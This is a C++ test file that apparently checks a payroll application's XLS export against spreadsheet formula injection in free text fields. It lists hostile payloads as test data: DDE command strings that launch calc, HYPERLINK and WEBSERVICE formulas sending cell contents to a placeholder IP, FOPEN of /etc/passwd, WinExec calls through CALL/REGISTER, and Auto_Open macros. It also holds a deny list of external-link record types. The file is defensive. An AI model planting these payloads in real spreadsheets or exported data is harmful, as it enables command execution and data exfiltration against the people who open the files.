// Texts that a spreadsheet could take for orders, typed into the free fields: the build starts nothing, connects to
// nothing, and leaves nothing in the result that another program would follow.

#include "app/base/Files.h"
#include "tests/support/EmbeddedBuilds.h"
#include "tests/support/LongForm.h"
#include "tests/support/RecordedMessages.h"
#include "tests/support/TemporaryFolder.h"
#include "tests/workbook/BuildCases.h"
#include "workbook/engine/xls/WorkbookFile.h"

#include <sys/socket.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <array>
#include <cstdio>

namespace {

int forbiddenCalls = 0; // that start a process or open a socket

} // namespace

namespace wagemill::test {

namespace {

constexpr auto prefixes = std::to_array<std::string_view>({"=", "+", "-", "@", "'"});

/// One of each kind: a command, a link, another file, a macro, a connection.
constexpr auto orders = std::to_array<std::string_view>(
    {"cmd|'/c calc'!A1", "DDE(\"cmd\",\"/c calc\",\"A1\")", "HYPERLINK(\"http://198.51.100.1/\"&B4,\"click\")",
     "WEBSERVICE(\"http://198.51.100.1/\"&B4)", "'[evil.xls]Sheet1'!A1", "'file:///etc/passwd'#$passwd.A1",
     "evil.xls!name", "INDIRECT(\"'[evil.xls]Sheet1'!A1\")", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
     "REGISTER(\"kernel32\",\"WinExec\",\"JCJ\",\"run\",,1,9)", "RUN(\"evil.xls!Auto_Open\")", "Auto_Open",
     "FOPEN(\"/etc/passwd\",1)", "SQL.REQUEST(\"DSN=x\",,2,\"select 1\")", "macro1()", "SUM(B4:B28)",
     "\t=cmd|'/c calc'!A1"});

constexpr auto freeFields =
    std::to_array<std::string_view>({"company", "txtEmployeeID", "txtName", "txtTaxStatus", "txtFedAllowance"});

PayrollData dataWith(std::string_view field, const std::string& text)
{
    PayrollData data = buildCases().front().data;
    (field == "company" ? data.header.companyName : data.rows.front().texts[rowFieldIndex(field)]) = text;
    return data;
}

/// Records that lead out of the workbook or hold code ([MS-XLS] 2.3.1): EXTERNCOUNT, EXTERNNAME, DCON, DCONREF,
/// DCONNAME, XCT, CRN, OBJ, OBPROJ, DBQUERY, CODENAME, QSI, DCONBIN, HLINK, HLINKTOOLTIP, WEBPUB, DBQUERYEXT, RTD.
constexpr auto forbiddenRecords =
    std::to_array<std::uint16_t>({0x0016, 0x0023, 0x0050, 0x0051, 0x0052, 0x0059, 0x005A, 0x005D, 0x00D3, 0x00DC,
                                  0x01BA, 0x01AD, 0x01B5, 0x01B8, 0x0800, 0x0801, 0x0803, 0x0813});

/// What the workbook holds that it must not.
std::string offenceIn(const std::vector<std::byte>& file)
{
    const engine::Book book = engine::xls::readWorkbook(file, "built.xls");
    if (book.keptStreams.size() != 2)
        return "a stream beside the workbook and its two summaries";
    for (const auto& supporting : book.supportingBooks)
        if (supporting.kind != engine::SupportingBook::Kind::Own || !supporting.kept.empty())
            return "another book";
    for (const auto& [name, sheet, formula, record] : book.names)
        if (!name.starts_with("Print_") &&
            (!formula.tokens.empty() || name.starts_with("_") || name.starts_with("Auto_")))
            return "a name of a formula, or to which the application gives a meaning";
    std::vector<engine::KeptRecord> kept = book.kept;
    for (const auto& sheet : book.sheets) {
        if (sheet->isKeptWhole)
            return "a sheet of another kind";
        kept.insert(kept.end(), sheet->kept.begin(), sheet->kept.end());
    }
    const bool isClean = std::ranges::find_first_of(kept, forbiddenRecords, {}, &engine::KeptRecord::id) == kept.end();
    return isClean ? "" : "a record that leads out of the workbook";
}

} // namespace

TEST(TypedPayloads, StartNothingConnectToNothingAndLeaveNoLink)
{
    const TemporaryFolder folder;
    const ScopedEnvironment temporary("TEMP", folder.path().string());
    const RecordedMessages messages; // an order that is not a formula is refused in the error dialog
    EmbeddedBuilds builds;
    const int step = shortOrLong(WAGEMILL_SANITIZED ? 7 : 1, 1); // of no common factor with the fields
    int number = 0;
    for (const std::string_view prefix : prefixes)
        for (const std::string_view order : orders)
            for (const std::string_view field : freeFields) {
                if (++number % step != 0)
                    continue;
                const std::string text = std::string(prefix) + std::string(order);
                const auto workbook = builds.build(dataWith(field, text)).workbook;
                ASSERT_TRUE(fileExists(workbook)) << text << " in " << field;
                EXPECT_EQ(offenceIn(readBytesFromFile(workbook)), "") << text << " in " << field;
                deleteFileQuietly(workbook);
            }
    EXPECT_EQ(forbiddenCalls, 0) << "a process was started or a socket opened";
}

} // namespace wagemill::test

// Our calls to the C library come here first.
extern "C" {
pid_t fork() noexcept
{
    return ++forbiddenCalls, -1;
}
int execve(const char* /*file*/, char* const /*arguments*/[], char* const /*environment*/[]) noexcept
{
    return ++forbiddenCalls, -1;
}
int system(const char* /*command*/)
{
    return ++forbiddenCalls, -1;
}
FILE* popen(const char* /*command*/, const char* /*mode*/)
{
    return ++forbiddenCalls, nullptr;
}
int socket(int /*domain*/, int /*type*/, int /*protocol*/) noexcept
{
    return ++forbiddenCalls, -1;
}
}
